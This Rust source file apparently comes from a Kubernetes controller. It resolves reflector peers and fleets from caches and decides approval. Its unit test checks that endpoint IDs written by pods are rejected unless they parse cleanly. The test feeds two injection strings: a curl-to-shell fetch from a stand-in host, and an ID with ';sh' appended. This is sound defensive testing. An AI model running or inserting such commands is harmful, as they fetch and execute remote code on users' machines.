//! Looks up what a decision is made from. Only caches: an import of thousands of peers asks the API server nothing.

use std::sync::Arc;

use crds::peer::ReflectorPeer;
use crds::reflector;
use crds::{EndpointId, Reflector, ReflectorFleet};
use kube::ResourceExt as _;
use kube::core::DeserializeGuard;
use kube::runtime::reflector::ObjectRef;

use super::found::{Approval, Endpoint, Found, Named};
use super::reference::Reference;
use super::room::Room;
use crate::kinds::Kinds;

/// `id`: the Endpoint ID in force.
pub(super) fn fetch(kinds: &Kinds, room: &Room, peer: Arc<ReflectorPeer>, id: Option<EndpointId>) -> Found {
    let namespace = peer.namespace().unwrap_or_default();
    let key = (namespace.clone(), peer.name_any());
    let named = match Reference::of(&peer.spec.reflector_ref) {
        Some(Reference::Reflector(name)) => one(kinds, &namespace, name),
        Some(Reference::Fleet(name)) => all(kinds, &namespace, name, &peer),
        None => None,
    };
    let reflectors: Vec<String> =
        named.iter().flat_map(|named| &named.reflectors).map(|one| one.name.clone()).collect();
    let older =
        id.and_then(|id| room.older(&key, id, &reflectors, |fleet| members(kinds, &namespace, fleet)));
    let waiting_beside = room.waiting_beside(&key, &peer.spec.reflector_ref);
    Found { peer, named, older, waiting_beside }
}

fn one(kinds: &Kinds, namespace: &str, name: &str) -> Option<Named> {
    let object = kinds.reflectors.cache.get(&ObjectRef::new(name).within(namespace))?;
    let readable = object.0.as_ref().ok();
    let approval = readable.map_or(Approval::Manual, |object| approval(object.spec.access.as_ref()));
    Some(Named { uid: object.uid()?, approval, is_fleet: false, reflectors: vec![endpoint(name, readable)] })
}

fn all(kinds: &Kinds, namespace: &str, name: &str, peer: &ReflectorPeer) -> Option<Named> {
    let object: Arc<DeserializeGuard<ReflectorFleet>> =
        kinds.fleets.cache.get(&ObjectRef::new(name).within(namespace))?;
    let readable = object.0.as_ref().ok();
    let approval =
        readable.map_or(Approval::Manual, |fleet| approval(fleet.spec.template.spec.access.as_ref()));
    let names: Vec<String> = match readable {
        Some(fleet) => names(fleet),
        // Nobody leaves a fleet that cannot be read.
        None => {
            peer.status.iter().flat_map(|status| &status.reflectors).map(|one| one.name.clone()).collect()
        }
    };
    let reflectors =
        names.iter().map(|name| endpoint(name, kinds.reflectors.find(namespace, name).as_deref())).collect();
    Some(Named { uid: object.uid()?, approval, is_fleet: true, reflectors })
}

fn members(kinds: &Kinds, namespace: &str, fleet: &str) -> Vec<String> {
    kinds.fleets.find(namespace, fleet).map(|fleet| names(&fleet)).unwrap_or_default()
}

fn names(fleet: &ReflectorFleet) -> Vec<String> {
    fleet.status.iter().flat_map(|status| &status.members).map(|member| member.reflector.clone()).collect()
}

/// Automatic by default; what is not known lets nobody in by itself.
fn approval(access: Option<&reflector::AccessSpec>) -> Approval {
    match access.and_then(|access| access.approval.as_ref()) {
        None | Some(reflector::Approval::Automatic) => Approval::Automatic,
        Some(reflector::Approval::Manual | reflector::Approval::Unknown(_)) => Approval::Manual,
    }
}

fn endpoint(name: &str, object: Option<&Reflector>) -> Endpoint {
    let status = object.and_then(|object| object.status.as_ref());
    Endpoint {
        name: name.to_owned(),
        // The pod writes it, and people paste it into a shell: what is no ID is not known.
        id: status.and_then(|status| status.endpoint_id.as_deref()?.parse().ok()),
        address: status.and_then(|status| status.addresses.first().cloned()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::peers::testing::{id, yaml};

    #[test]
    fn what_a_pod_says_is_an_id_only_when_it_is_one() {
        let said = |text: &str| {
            let reflector: Reflector = yaml(&format!(
                "{{ metadata: {{ name: attic }}, spec: {{}}, status: {{ endpointId: '{text}', addresses: ['192.0.2.10:4000'] }} }}"
            ));
            endpoint("attic", Some(&reflector)).id
        };
        assert_eq!(said("$(curl -s evil.example|sh)"), None);
        assert_eq!(said(&format!("{};sh", id(9))), None);
        assert_eq!(said(&id(9).to_string()), Some(id(9)));
    }
}
